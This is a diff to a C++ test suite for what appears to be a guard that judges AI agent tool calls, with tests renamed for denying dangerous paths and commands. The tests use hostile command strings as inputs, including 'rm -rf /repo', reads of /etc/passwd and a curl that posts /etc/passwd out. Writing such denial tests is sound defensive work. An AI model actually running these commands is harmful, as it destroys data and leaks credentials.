@@ -38,7 +38,7 @@ api::Policy Blocks() {
   return policy;
 }
 
-TEST(DenialArguments, PathsAtAnyDepthAndUnderAnyName) {
+TEST(DenialArguments, PathIsJudgedAtAnyDepthUnderAnyName) {
   for (const Json& input : {
            Json{{"edits", {{{"file_path", "/etc/passwd"}}}}},
            Json{{"filename", "/etc/passwd"}},
@@ -68,7 +68,7 @@ TEST(DenialArguments, PathsAtAnyDepthAndUnderAnyName) {
   }
 }
 
-TEST(DenialArguments, CommandsAtAnyDepthAndUnderAnyName) {
+TEST(DenialArguments, CommandIsJudgedAtAnyDepthUnderAnyName) {
   for (const Json& input : {
            Json{{"cmdline", "rm -rf /repo"}},
            Json{{"anything", "rm -rf /repo"}},
@@ -91,7 +91,7 @@ TEST(DenialArguments, CommandsAtAnyDepthAndUnderAnyName) {
   }
 }
 
-TEST(DenialArguments, ProseOptionsAndNumbersAreNoCommandsNorPaths) {
+TEST(DenialArguments, ProseOptionsAndNumbersPass) {
   const api::Policy limits = Limits(), blocks = Blocks();
   for (const Json& input : {
            Json{{"file_path", "a"}, {"content", "see /etc/passwd\nrm -rf /\n"}},
@@ -115,7 +115,7 @@ TEST(DenialArguments, ProseOptionsAndNumbersAreNoCommandsNorPaths) {
   EXPECT_NE(Judged(all, {{"command", "ls"}}).reason, "");
 }
 
-TEST(DenialArguments, WhatIsNotJudgedIsNamed) {
+TEST(DenialArguments, UnjudgedArgumentIsNamed) {
   using Names = std::vector<std::string>;
   EXPECT_EQ(Judged(Limits(), {{"file_path", "a"}, {"content", "see /etc"}}).unjudged,
             Names{"content"});
@@ -132,13 +132,13 @@ TEST(DenialArguments, WhatIsNotJudgedIsNamed) {
   EXPECT_EQ(Judged(Limits(), many).unjudged.size(), 21u);
 }
 
-TEST(DenialArguments, JsonInJsonTooDeepIsDenied) {
+TEST(DenialArguments, TooDeeplyNestedJsonIsDenied) {
   std::string text = R"({"a": "b"})";
   for (int i = 0; i < 6; ++i) text = Json{{"a", text}}.dump();
   EXPECT_NE(Judged(Limits(), Json::parse(text)).reason.find("cannot be read"), std::string::npos);
 }
 
-TEST(DenialArguments, WhatTakesTooLongIsDenied) {
+TEST(DenialArguments, CallOverItsTimeBudgetIsDenied) {
   api::HookEvent event;
   event.tool_name = "Bash";
   event.cwd = "/repo";
@@ -152,13 +152,13 @@ TEST(DenialArguments, WhatTakesTooLongIsDenied) {
   EXPECT_LT(budget.work(), size_t{2} << 20) << "it stops there";
 }
 
-// One frame of the stack for each @ ended the process.
-TEST(DenialArguments, ManyAtSignsAreOneName) {
+// Recursion over each @ once overflowed the stack.
+TEST(DenialArguments, RepeatedAtSignsCountAsOne) {
   EXPECT_EQ(Judged(Limits(), {{"command", "echo " + std::string(2'000'000, '@')}}).reason, "");
   EXPECT_NE(Judged(Limits(), {{"command", "curl -d @@/etc/passwd u"}}).reason, "");
 }
 
-TEST(DenialArguments, ADirectoryOutsideMakesRelativeWordsPathsOutside) {
+TEST(DenialArguments, RelativePathInOutsideDirectoryIsDenied) {
   api::Policy policy;
   policy.allowed_paths = {"/data"};
   EXPECT_NE(Judged(policy, {{"command", "cat notes.txt"}}, "Bash", "/home/me").reason, "");
